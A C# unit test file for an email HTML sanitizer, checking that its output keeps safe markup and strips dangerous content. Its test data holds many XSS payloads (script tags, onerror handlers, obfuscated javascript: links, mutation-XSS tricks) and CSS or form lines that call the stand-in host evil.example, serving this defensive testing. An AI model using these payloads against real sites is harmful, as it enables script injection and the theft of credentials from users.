using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Svar.Mail.Html;
using Svar.Tests;

namespace Svar.Mail.Tests.Html;

public class HtmlCleanerTests
{
    private static readonly HashSet<string> Elements = [.. (
        "a abbr acronym address article aside b big blockquote br caption center cite code col colgroup dd del dfn dir div dl dt em figcaption figure "
        + "font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark menu nav ol p pre q s samp section small span strike strong sub sup "
        + "table tbody td tfoot th thead time tr tt u ul var wbr").Split(' ')];

    private static readonly HashSet<string> Attributes = [.. (
        "href target rel src data-blocked-src title alt summary dir lang align valign width height border cellpadding cellspacing bgcolor nowrap "
        + "colspan rowspan scope span start value type color size face style").Split(' ')];

    [Fact]
    public void Nothing_dangerous_is_left_of_any_published_attack()
    {
        var files = Fixtures.Files("xss_dompurify", ".html");
        foreach (var file in files)
        {
            Inspect(HtmlCleaner.Clean(File.ReadAllText(file)).Html, Path.GetFileName(file));
        }

        Assert.NotEmpty(files);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>hei")]
    [InlineData("<ScRiPt/x>alert(1)</sCrIpT >hei")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<img/src/onerror=alert(1)>")]
    [InlineData("<a href='java\tscript:alert(1)'>x</a>")]
    [InlineData("<a href='&#106;avascript:alert(1)'>x</a>")]
    [InlineData("<a href='\u0001javascript:alert(1)'>x</a>")]
    [InlineData("<a href='JAVASCRIPT&colon;alert(1)'>x</a>")]
    [InlineData("<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>")]
    [InlineData("<a href='https:alert'>x</a><a href='http:///'>x</a>")]
    [InlineData("<base href=//evil.example><a href=x>x</a>")]
    [InlineData("<meta http-equiv=refresh content='0;url=//evil.example'>")]
    [InlineData("<link rel=stylesheet href=//evil.example/a.css>")]
    [InlineData("<style>@import '//evil.example/a.css'; p{background:url(//evil.example/b)} </style><p>x</p>")]
    [InlineData("<style>p{color:red;position:fixed;top:0;left:0;z-index:9}</style><p>x</p>")]
    [InlineData("<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;background:red'>x</div>")]
    [InlineData("<div style='margin:-500px;margin-top:-1px'>x</div>")]
    [InlineData("<div style=\"background:url('//evil.example/x')\">x</div>")]
    [InlineData("<div style='background-image:url(//evil.example/x)'>x</div>")]
    [InlineData("<div style='width:expression(alert(1))'>x</div>")]
    [InlineData("<div style='b\\61 ckground:u\\72l(//evil.example)'>x</div>")]
    [InlineData("<div style='color:red;/*'>x</div><div style='*/behavior:url(x)'>y</div>")]
    [InlineData("<div style=\"font-family:'x;background:url(//e)'\">x</div>")]
    [InlineData("<div style=\"font-family:x&quot;onmouseover=alert(1) y=&quot;\">x</div>")]
    [InlineData("<div style='color:var(--x);color:env(x);width:calc(100% + 9999px)'>x</div>")]
    [InlineData("<form action=//evil.example><input name=password><button formaction=//evil.example>Go</button></form>")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
    [InlineData("<object data=x></object><embed src=x><applet code=x></applet>")]
    [InlineData("<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>")]
    [InlineData("<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("<template><img src=x onerror=alert(1)></template>")]
    [InlineData("<textarea></textarea><img src=x onerror=alert(1)></textarea>")]
    [InlineData("<title></title><img src=x onerror=alert(1)></title>")]
    [InlineData("<xmp></xmp><img src=x onerror=alert(1)></xmp>")]
    [InlineData("<plaintext><img src=x onerror=alert(1)>")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<!--[if mso]><img src=x onerror=alert(1)><![endif]-->")]
    [InlineData("<table background=//evil.example/x><tr><td background='//evil.example/y'>x</table>")]
    [InlineData("<img src=x srcset='//evil.example/x 1x' lowsrc=//evil.example dynsrc=//evil.example>")]
    [InlineData("<video src=//evil.example poster=//evil.example autoplay></video><audio src=//evil.example></audio>")]
    [InlineData("<p id=getElementById name=cookie class=modal>x</p>")]
    [InlineData("<p contenteditable tabindex=1 accesskey=x autofocus onfocus=alert(1)>x</p>")]
    [InlineData("<img alt=\"`onmouseover=alert(1)\" src=cid:x>")]
    [InlineData("<a href='https://ok.example/?a=\"><img src=x onerror=alert(1)>'>x</a>")]
    [InlineData("<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html;base64,PHN2Zz4='>")]
    [InlineData("<div><![CDATA[<img src=x onerror=alert(1)>]]></div>")]
    [InlineData("<a href=\"https://x.example\" style=\"color:red\" style=\"position:fixed\" HREF=javascript:alert(1)>x</a>")]
    [InlineData("<select><option><img src=x onerror=alert(1)></option></select>")]
    [InlineData("<p style='unicode-bidi:bidi-override;direction:rtl;content:\"x\"'>x</p>")]
    public void Nothing_dangerous_is_left_of(string html) => Inspect(HtmlCleaner.Clean(html).Html, html);

    [Fact]
    public void Cleaning_what_is_clean_changes_nothing()
    {
        foreach (var file in Fixtures.Files("xss_dompurify", ".html").Concat(Fixtures.Files("talon", ".html")))
        {
            var once = HtmlCleaner.Clean(File.ReadAllText(file)).Html;
            Assert.Equal(once, HtmlCleaner.Clean(once).Html);
        }
    }

    [Fact]
    public void Typography_of_the_mail_stays()
    {
        var cleaned = HtmlCleaner.Clean(
            "<style>p.MsoNormal, li{margin:0cm;font-family:\"Calibri\",sans-serif}</style>"
            + "<p class=MsoNormal style='color:#1F497D;line-height:120%'>Hei <b>du</b></p>").Html;
        Assert.Equal(
            "<p style=\"margin:0cm;font-family:&#39;Calibri&#39;,sans-serif;color:#1F497D;line-height:120%\">Hei <b>du</b></p>",
            cleaned.Replace(", sans", ",sans", StringComparison.Ordinal));
    }

    [Fact]
    public void A_link_opens_elsewhere_and_tells_nothing()
    {
        Assert.Equal(
            "<a href=\"https://a.example/?x=1&amp;y=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">her</a>",
            HtmlCleaner.Clean("<a href='https://a.example/?x=1&y=2' onclick=x target=_top>her</a>").Html);
    }

    [Fact]
    public void A_remote_picture_is_blocked_and_its_address_kept()
    {
        var cleaned = HtmlCleaner.Clean("<img src='https://a.example/logo.png' alt='Logo' width=120>");
        Assert.Equal("<img data-blocked-src=\"https://a.example/logo.png\" alt=\"Logo\" width=\"120\">", cleaned.Html);
        Assert.Equal(1, cleaned.BlockedImages);
    }

    [Fact]
    public void A_picture_of_one_point_is_a_tracker_and_goes()
    {
        var cleaned = HtmlCleaner.Clean("hei<img src='https://a.example/open?id=7' width=1 height=1><img src=https://a.example/o style='width:1px;height:1px'>");
        Assert.Equal("hei", cleaned.Html);
        Assert.Equal(2, cleaned.RemovedTrackers);
    }

    [Fact]
    public void A_picture_of_the_mail_itself_is_found_by_its_content_id()
    {
        var options = new HtmlCleanOptions { ContentId = id => id == "logo@shop" ? "/parts/7?a=1&b=2" : null };
        Assert.Equal(
            "<img src=\"/parts/7?a=1&amp;b=2\" alt=\"x\"><img alt=\"borte\">",
            HtmlCleaner.Clean("<img src='cid:logo%40shop' alt=x><img src=cid:none alt=borte><img src=cid:none>", options).Html);
    }

    [Fact]
    public void A_proxy_may_stand_in_for_remote_pictures()
    {
        var options = new HtmlCleanOptions { RemoteImage = url => "/picture?of=" + Uri.EscapeDataString(url) };
        Assert.Equal("<img src=\"/picture?of=https%3A%2F%2Fa.example%2Fx\">", HtmlCleaner.Clean("<img src=https://a.example/x>", options).Html);
    }

    [Fact]
    public void What_the_sender_hid_is_not_in_it() =>
        Assert.Equal(
            "<p>Hei</p>",
            HtmlCleaner.Clean("<style>.pre{display:none}</style><div class=pre>Skjult</div><p>Hei</p><span style='visibility:hidden'>x</span><i style='opacity:1;opacity:0'>y</i>").Html);

    [Theory]
    [InlineData("<!--[if mso]><v:rect href='https://a.example/'>Pay</v:rect><![endif]--><a href='https://a.example/' style='mso-hide:all;'>Pay now</a>", "Pay now")]
    [InlineData("<p style='visibility:hidden;visibility:visible'>Hei</p>", "Hei")]
    [InlineData("<p style='opacity:0;opacity:1'>Hei</p>", "Hei")]
    public void What_is_hidden_from_one_program_or_shown_after_all_is_shown(string html, string words)
    {
        Assert.Contains(words, HtmlCleaner.Clean(html).Html, StringComparison.Ordinal);
        Assert.Contains(words, HtmlText.ToText(html), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<td>stolen</td>")]
    [InlineData("<tr><td>stolen</td></tr>")]
    [InlineData("<tbody><th>stolen</th></tbody><caption>stolen</caption><colgroup><col></colgroup><col>")]
    [InlineData("<table><table></table></table>stolen")]
    [InlineData("<table><tr><table><tr><td>x</table></table>stolen")]
    [InlineData("<table><div><table></table></div></table><td>stolen")]
    [InlineData("</td></tr></table>stolen")]
    [InlineData("<table><caption><td>x</caption></table>stolen")]
    [InlineData("<table><tr><td><tr><td><table><td></table></table></table>stolen")]
    public void A_table_of_the_page_stays_as_it_is(string html)
    {
        var cleaned = HtmlCleaner.Clean(html).Html;
        var page = Parse($"<table id=outer><tr><td><div id=box>{cleaned}</div></td></tr></table><p>after</p>");
        Assert.Equal(["P", "TABLE"], page.Children.Select(child => child.TagName).Order(StringComparer.Ordinal));
        var outer = page.QuerySelector("#outer")!;
        Assert.Single(outer.QuerySelectorAll("tr"), row => row.Closest("#box") is null);
        Assert.Same(page.QuerySelector("#box"), Assert.Single(outer.QuerySelectorAll("td"), cell => cell.Closest("#box") is null).Children.Single());
        Assert.Contains("stolen", page.QuerySelector("#box")!.TextContent, StringComparison.Ordinal);
        Assert.Equal(cleaned, HtmlCleaner.Clean(cleaned).Html);
    }

    [Fact]
    public void An_address_with_an_emoji_stays_an_address()
    {
        Assert.Contains("href=\"https://a.example/%F0%9F%8F%95?q=%C3%A5".Replace("%C3%A5", "å", StringComparison.Ordinal), HtmlCleaner.Clean("<a href='https://a.example/🏕?q=å'>x</a>").Html, StringComparison.Ordinal);
        Assert.DoesNotContain("href", HtmlCleaner.Clean("<a href='https://a.example/\uD83C'>x</a>").Html, StringComparison.Ordinal);
    }

    [Fact]
    public void An_end_tag_past_the_deepest_element_closes_what_was_opened_there()
    {
        var outer = string.Concat(Enumerable.Repeat("<b><i>", 110));
        var cleaned = HtmlCleaner.Clean($"<div>{outer}<i>a</i><b>b</b><svg/>c</div>d").Html;
        Assert.StartsWith("<i></i>a<b></b>bc</", cleaned[(cleaned.IndexOf("a<b>", StringComparison.Ordinal) - 7)..], StringComparison.Ordinal);
        Assert.EndsWith("</div>d", cleaned, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<pre>\na</pre>", "<pre>a</pre>")]
    [InlineData("<pre>\n\na</pre>", "<pre>\n\na</pre>")]
    [InlineData("<pre><x>\na</x></pre>", "<pre>\n\na</pre>")]
    [InlineData("<pre>\ra</pre>", "<pre> a</pre>")]
    public void Preformatted_text_keeps_its_first_line_end(string html, string cleaned)
    {
        Assert.Equal(cleaned, HtmlCleaner.Clean(html).Html);
        Assert.Equal(cleaned, HtmlCleaner.Clean(cleaned).Html);
    }

    [Theory]
    [InlineData("<div>")]
    [InlineData("<b>")]
    [InlineData("<table><tr><td>")]
    [InlineData("<blockquote>x")]
    [InlineData("<p><font color=1>")]
    [InlineData("<svg><g>")]
    [InlineData("</p>")]
    [InlineData("<!--")]
    [InlineData("<a href=x")]
    [InlineData("<ul><li>")]
    [InlineData("<style>p{color:red}")]
    [InlineData("&#x41;&amp")]
    [InlineData("</script><script>")]
    public void Fifty_thousand_of_anything_ends_at_once(string piece)
    {
        var html = string.Concat(Enumerable.Repeat(piece, 50_000));
        var (cleaned, text) = Timed.Run(() => (HtmlCleaner.Clean(html), HtmlText.ToText(html)));
        Assert.True(cleaned.Html.Length <= html.Length * 12L, $"{cleaned.Html.Length}");
        Assert.True(text.Length <= html.Length * 12L, $"{text.Length}");
    }

    [Theory]
    [InlineData("p{%}", "<p>", "color:red;", 190)]
    [InlineData("%", "<p class='a a a a a a a a a a a a a a a a'>", "b.a{color:red}", 2000)]
    [InlineData("%", "<p class='a b c d e f'>", ".a{color:red}.b{margin:1px}", 1000)]
    public void A_sheet_for_a_great_many_elements_ends_at_once(string sheet, string element, string piece, int pieces)
    {
        var css = sheet.Replace("%", string.Concat(Enumerable.Repeat(piece, pieces)), StringComparison.Ordinal);
        var html = $"<style>{css}{css}</style>" + string.Concat(Enumerable.Repeat(element, 3_500_000 / element.Length));
        Timed.Run(() => HtmlCleaner.Clean(html));
        Timed.Run(() => HtmlText.ToText(html));
    }

    private static void Inspect(string cleaned, string source)
    {
        var first = Parse(cleaned);
        // written out by a browser and read again: a second chance for anything that changes its meaning on the way
        foreach (var element in first.QuerySelectorAll("*").Concat(Parse(first.InnerHtml).QuerySelectorAll("*")))
        {
            Assert.True(element.NamespaceUri == "http://www.w3.org/1999/xhtml", $"{source}: {element.NamespaceUri}");
            Assert.True(Elements.Contains(element.LocalName), $"{source}: <{element.LocalName}> in {cleaned}");
            foreach (var attribute in element.Attributes)
            {
                Assert.True(Attributes.Contains(attribute.Name), $"{source}: {attribute.Name} in {cleaned}");
                Judge(attribute.Name, attribute.Value, source);
            }
        }
    }

    private static void Judge(string name, string value, string source)
    {
        switch (name)
        {
            case "href":
                Assert.Matches("^(https?://|mailto:|tel:)", value.ToLowerInvariant());
                break;
            case "src":
                Assert.Matches("^data:image/(png|jpe?g|gif|webp|bmp);base64,", value);
                break;
            case "style":
                foreach (var word in (ReadOnlySpan<string>)["url", "expression", "position", "behavior", "binding", "import", "var(", "fixed", "-o-", "\\", "/*", "<", "content:"])
                {
                    Assert.False(value.Contains(word, StringComparison.OrdinalIgnoreCase), $"{source}: {value}");
                }

                Assert.DoesNotMatch("margin[a-z-]*:[^;]*-\\d", value);
                break;
        }
    }

    private static IElement Parse(string html) => new HtmlParser().ParseDocument("<!doctype html><body>" + html).Body!;
}
